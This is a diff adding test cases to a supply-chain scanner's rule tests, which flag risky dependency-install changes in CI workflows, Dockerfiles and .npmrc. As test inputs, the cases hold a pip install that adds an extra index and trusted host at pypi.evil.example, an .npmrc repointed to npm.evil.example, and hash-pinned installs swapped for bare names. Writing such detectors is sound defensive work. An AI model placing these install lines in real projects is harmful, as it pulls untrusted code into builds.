@@ -257,6 +257,32 @@ const cases: Case[] = [
     want: ['CPU025@pyproject.toml:3', 'CPU026@pyproject.toml:4'],
   },
   {
+    name: 'a workflow adds pip install of bare names with an extra index and a trusted host → CPU029, CPU025, CPU026',
+    base: { '.github/workflows/ci.yml': workflow('pip install -r requirements.txt --require-hashes') },
+    head: {
+      '.github/workflows/ci.yml': workflow(
+        'pip install torch transformers --extra-index-url https://pypi.evil.example/simple --trusted-host pypi.evil.example',
+      ),
+    },
+    want: [
+      'CPU025@.github/workflows/ci.yml:8',
+      'CPU026@.github/workflows/ci.yml:8',
+      'CPU029@.github/workflows/ci.yml:8',
+    ],
+  },
+  {
+    name: 'a Dockerfile moves from a hash-pinned requirements install to bare names → CPU029',
+    base: { Dockerfile: 'FROM python:3.12\nRUN pip install --require-hashes -r requirements.txt\n' },
+    head: { Dockerfile: 'FROM python:3.12\nRUN pip install --upgrade pip\nRUN pip install requests flask\n' },
+    want: ['CPU029@Dockerfile:3'],
+  },
+  {
+    name: 'a Dockerfile adds a requirements install and upgrades pip → nothing',
+    base: { Dockerfile: 'FROM python:3.12\n' },
+    head: { Dockerfile: 'FROM python:3.12\nRUN python -m pip install -U pip\nRUN pip install -r requirements.txt\n' },
+    want: [],
+  },
+  {
     name: 'the work tree (the Action) repoints .npmrc → CPU025',
     base: { '.npmrc': 'registry=https://registry.npmjs.org/\n' },
     head: { '.npmrc': 'registry=https://npm.evil.example/\n' },
